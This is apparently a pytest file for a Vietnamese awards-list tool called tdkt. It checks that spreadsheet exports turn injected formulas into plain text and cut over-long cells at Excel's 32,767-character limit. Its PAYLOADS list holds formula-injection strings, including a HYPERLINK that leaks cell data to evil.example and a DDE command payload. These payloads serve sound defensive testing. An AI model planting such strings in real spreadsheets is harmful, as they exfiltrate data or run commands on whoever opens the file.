"""Report #10 and #30: cell text from a list never becomes a live formula or link in a spreadsheet tdkt
writes, and no cell passes Excel's 32,767 characters."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from .conftest import Round, flat, validate

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&E9,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/") and n.endswith(".xml"))


def _plant(path: Path, name: str, unit: str) -> None:
    """The first nominee of an example list renamed and moved to ``unit`` (as text cells)."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    ws = wb.active
    ws["B9"].value, ws["G9"].value = name, unit
    ws["B9"].data_type = ws["G9"].data_type = "s"  # text in the unit's file, as a unit would type it
    wb.save(path)


def _no_formula(xml: str) -> None:
    assert "<f>" not in xml and "<f " not in xml
    assert "<hyperlink" not in xml


@pytest.mark.parametrize("payload", PAYLOADS)
def test_10_the_annotated_copy_writes_list_text_as_text(cli: Any, sqlite_round: Round, payload: str) -> None:
    rnd = sqlite_round
    _plant(rnd.lists[0], payload, payload)
    r = cli(["validate", rnd.lists[0], "--format", "xlsx", "-o", "ket-qua.xlsx"])
    assert r.exit_code in (0, 1), r.stderr
    _no_formula(_sheet_xml(rnd.root / "ket-qua.xlsx"))
    from openpyxl import load_workbook

    res = load_workbook(rnd.root / "ket-qua.xlsx")["Kết quả thẩm định"]
    names = [c.value for c in res["B"]]
    assert payload.strip().casefold() in [str(n).strip().casefold() for n in names if n]  # names are title-cased


def test_10_the_results_workbook_of_a_csv_list_writes_text_as_text(cli: Any, sqlite_round: Round) -> None:
    rnd = sqlite_round
    path = rnd.root / "ds.csv"
    path.write_text("Họ và tên,Đơn vị công tác,Hình thức đề nghị khen thưởng\n"
                    + "".join(f'"{p.replace(chr(34), chr(34) * 2)}",Sở Y tế,Lao động tiên tiến\n' for p in PAYLOADS),
                    encoding="utf-8")
    r = cli(["validate", path, "--format", "xlsx", "-o", "ket-qua.xlsx"])
    assert r.exit_code in (0, 1), r.stderr
    _no_formula(_sheet_xml(rnd.root / "ket-qua.xlsx"))


def test_10_render_report_xlsx_writes_names_as_text(cli: Any, sqlite_round: Round) -> None:
    rnd = sqlite_round
    _plant(rnd.lists[0], PAYLOADS[0], PAYLOADS[2])
    validate(cli, rnd)
    r = cli(["render", "report", "--format", "xlsx", "--out", "van-ban"])
    assert r.exit_code == 0, r.stderr
    (out,) = (rnd.root / "van-ban").glob("*.xlsx")
    _no_formula(_sheet_xml(out))
    strings = zipfile.ZipFile(out).read("xl/sharedStrings.xml").decode().casefold()
    assert "=hyperlink(" in strings and "+1+2" in strings  # the text is there, as text


def _poison_register(url: str) -> None:
    from sqlalchemy import update

    from tdkt.db import transaction
    from tdkt.db.schema import reg_awards, reg_people

    with transaction(url) as conn:
        conn.execute(update(reg_people).where(reg_people.c.id == 1).values(name=PAYLOADS[0], unit=PAYLOADS[1]))
        conn.execute(update(reg_awards).where(reg_awards.c.person_id == 1).values(unit=PAYLOADS[3]))


def test_10_register_export_xlsx_writes_text_as_text(cli: Any, round_ws: Round) -> None:
    _poison_register(round_ws.url)
    r = cli(["register", "export", "--format", "xlsx", "-o", "so.xlsx"])
    assert r.exit_code == 0, r.stderr
    _no_formula(_sheet_xml(round_ws.root / "so.xlsx"))


def test_10_register_export_csv_neutralises_formula_starts(cli: Any, round_ws: Round) -> None:
    _poison_register(round_ws.url)
    r = cli(["register", "export", "--format", "csv", "-o", "so.csv"])
    assert r.exit_code == 0, r.stderr
    rows = list(csv.reader(io.StringIO((round_ws.root / "so.csv").read_text(encoding="utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if re.match(r"[=+\-@\t\r]", c)]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[3] in cells


def _grow(path: Path, marker: str, size: int) -> None:
    """Replace ``marker`` in the workbook's XML by ``size`` copies of its first letter: a cell longer
    than Excel (or openpyxl) would write, as a hand-made file has it."""
    data = {}
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            data[n] = z.read(n).replace(marker.encode(), marker[0].encode() * size)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in data.items():
            z.writestr(n, d)


def test_30_no_cell_or_comment_passes_excel_s_limit(cli: Any, sqlite_round: Round) -> None:
    from openpyxl import load_workbook

    rnd = sqlite_round
    wb = load_workbook(rnd.lists[0])
    wb.active["M9"].value = "Hoàn thành tốt nhiệm vụ " + "x" * 40_000  # a rating no one understands, quoted back
    wb.active["X9"].value = "Q" * 1000  # Ghi chú
    wb.save(rnd.lists[0])
    _grow(rnd.lists[0], "Q" * 1000, 1_000_000)
    r = cli(["validate", rnd.lists[0], "--format", "xlsx", "-o", "ket-qua.xlsx"])
    assert r.exit_code in (0, 1), r.stderr
    with zipfile.ZipFile(rnd.root / "ket-qua.xlsx") as z:
        texts = [html.unescape(t) for n in z.namelist() if n.endswith(".xml")
                 for t in re.findall(r"<t[^>]*>([^<]*)</t>", z.read(n).decode("utf-8"))]
    assert max(len(t) for t in texts) <= 32767
    # the cut is said, with the cell (issue 19: "cut at Excel's 32,767 characters with a finding")
    said = flat(r.stderr)
    assert "32.767" in said and "X9" in said and "1.000.000" in said, said


def test_30_a_list_within_excel_s_limit_gets_no_cut_warning(cli: Any, sqlite_round: Round) -> None:
    r = cli(["validate", sqlite_round.lists[0], "--format", "xlsx", "-o", "ket-qua.xlsx"])
    assert r.exit_code in (0, 1), r.stderr
    assert "32.767" not in flat(r.stderr)
